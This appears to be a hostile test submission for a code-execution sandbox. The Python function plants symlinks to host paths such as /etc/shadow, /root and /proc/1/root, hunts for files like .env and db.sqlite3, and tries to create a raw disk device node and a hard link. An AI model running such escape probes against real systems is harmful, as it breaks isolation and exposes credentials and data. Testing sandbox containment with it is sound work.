"""Puts links to the host's files wherever somebody might follow them, and asks for devices and mounts of its own."""

import contextlib
import os

TARGETS = ("/etc/shadow", "/root", "/proc/1/root", "/proc/1/cwd", "/proc/self/root/..", "/home", "/var/run")


@enter
def answer(*arguments):
    stole = []
    for folder in ("/box", "/tmp", "/dev/shm", "/out", "/job"):
        for number, target in enumerate(TARGETS):
            with contextlib.suppress(OSError):
                os.symlink(target, f"{folder}/link{number}")
                with contextlib.suppress(OSError):
                    seen = os.listdir(f"{folder}/link{number}")
                    stole += [name for name in seen if name in ("db.sqlite3", "content", "manage.py", ".env")]
    with contextlib.suppress(OSError):
        os.mknod("/box/disk", 0o60600, os.makedev(8, 0))
        stole.append("device")
    with contextlib.suppress(OSError):
        os.link("/usr/bin/env", "/box/env")
        stole.append("link")
    return pay(stole, *arguments)
